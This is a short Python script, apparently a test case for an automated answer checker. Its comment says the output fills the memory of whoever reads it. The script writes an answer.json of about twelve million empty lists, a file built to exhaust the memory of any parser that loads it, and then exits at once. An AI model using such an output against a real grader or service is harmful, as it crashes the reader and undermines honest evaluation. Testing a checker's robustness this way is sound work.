# 00a | compile+picture | an answer that fills the memory of whoever reads it
import os

open('answer.json', 'w').write('[' + '[],' * 12_000_000 + '0]')
os._exit(0)
